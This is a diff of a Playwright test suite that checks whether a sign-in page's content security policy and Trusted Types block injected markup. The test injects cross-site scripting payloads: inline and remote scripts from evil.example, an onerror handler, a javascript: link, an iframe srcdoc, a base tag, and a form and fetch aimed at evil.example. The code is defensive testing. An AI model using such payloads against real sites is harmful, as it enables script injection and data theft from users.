@@ -53,49 +53,76 @@ describeInBrowser('The pages in Chromium, under their content security policy', 
     expect(complaints.filter((text) => !text.startsWith('Failed to load resource'))).toEqual([]);
   });
 
-  test('an injected script, handler, style and frame do nothing', async () => {
-    const { page, complaints } = await openPage(browser);
+  test('markup that is injected into the page does nothing', async () => {
+    const { page, complaints, outside } = await openPage(browser);
+    await page.route(`${app.url}/account/sign-in`, async (route) => {
+      const response = await route.fetch();
+      const attack = `<script>window.hacked = 'inline'</script><script src="https://evil.example/x.js"></script>
+        <script src="data:text/javascript,window.hacked = 'data'"></script><img src="x:" onerror="window.hacked = 'handler'">
+        <a id="trap" href="javascript:window.hacked = 'link'">x</a><style>body { color: rgb(1, 2, 3) }</style>
+        <link rel="stylesheet" href="https://evil.example/x.css"><iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
+        <form id="form" action="https://evil.example/"><input name="a"></form><base href="https://evil.example/">`;
+      await route.fulfill({ response, body: (await response.text()).replace('<div id="root">', `${attack}$&`) });
+    });
     await page.goto(`${app.url}/account/sign-in`);
     await page.getByLabel(/Username/).waitFor();
-    const changed = await page.evaluate(async () => {
-      const markup = document.createElement('div');
-      markup.innerHTML =
-        '<img src="x:" onerror="window.hacked = 1"><a id="trap" href="javascript:window.hacked = 1">x</a>' +
-        '<style>body { color: rgb(1, 2, 3) }</style><iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>' +
-        '<form id="form" action="https://evil.example/" method="post"><input name="a"></form><base href="https://evil.example/">';
-      document.body.append(markup);
-      for (const source of ['data:text/javascript,window.hacked = 1', 'https://evil.example/x.js']) {
-        document.head.append(Object.assign(document.createElement('script'), { src: source }));
-      }
-      document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }));
+    const state = await page.evaluate(async () => {
       document.querySelector<HTMLElement>('#trap')?.click();
       document.querySelector<HTMLFormElement>('#form')?.requestSubmit();
       const sent = await fetch('https://evil.example/').then(
         () => true,
         () => false,
       );
-      const evaluated = await import('data:text/javascript,window.hacked = 1' as string).then(
-        () => true,
-        () => false,
-      );
-      await new Promise((resolve) => setTimeout(resolve, 200));
-      return {
-        sent,
-        evaluated,
-        hacked: (window as { hacked?: number }).hacked,
-        color: getComputedStyle(document.body).color,
-        base: document.baseURI.startsWith(location.origin),
-      };
+      const { hacked } = window as { hacked?: string };
+      return { sent, hacked, color: getComputedStyle(document.body).color, base: document.baseURI };
     });
-    expect(changed).toEqual({
+    expect(state).toEqual({
       sent: false,
-      evaluated: false,
       hacked: undefined,
-      color: expect.any(String),
-      base: true,
+      color: expect.not.stringContaining('rgb(1, 2, 3)'),
+      base: `${app.url}/account/sign-in`,
     });
-    expect(changed.color).not.toBe('rgb(1, 2, 3)');
     expect(page.url()).toBe(`${app.url}/account/sign-in`);
-    expect(complaints.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThan(5);
+    expect(outside).toEqual([]);
+    expect(complaints.filter((text) => text.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(8);
+  });
+
+  test('no code of the page can turn a text into markup or a script', async () => {
+    const { page } = await openPage(browser);
+    await page.goto(`${app.url}/account/sign-in`);
+    await page.getByLabel(/Username/).waitFor();
+    const refused = await page.evaluate(() => {
+      const tries: Record<string, () => unknown> = {
+        innerHTML: () => {
+          document.createElement('div').innerHTML = '<img src="x:">';
+        },
+        outerHTML: () => {
+          document.body.firstElementChild?.insertAdjacentHTML('afterend', '<p>');
+        },
+        srcdoc: () => {
+          document.createElement('iframe').srcdoc = '<p>';
+        },
+        src: () => {
+          document.createElement('script').src = '/web/assets/x.js';
+        },
+        text: () => {
+          document.createElement('script').text = 'x';
+        },
+        parse: () => new DOMParser().parseFromString('<p>', 'text/html'),
+        policy: () =>
+          (
+            globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
+          ).trustedTypes.createPolicy('other', { createHTML: (text: string) => text }),
+      };
+      return Object.entries(tries).flatMap(([name, attempt]) => {
+        try {
+          attempt();
+          return [];
+        } catch {
+          return [name];
+        }
+      });
+    });
+    expect(refused).toEqual(['innerHTML', 'outerHTML', 'srcdoc', 'src', 'text', 'parse', 'policy']);
   });
 });
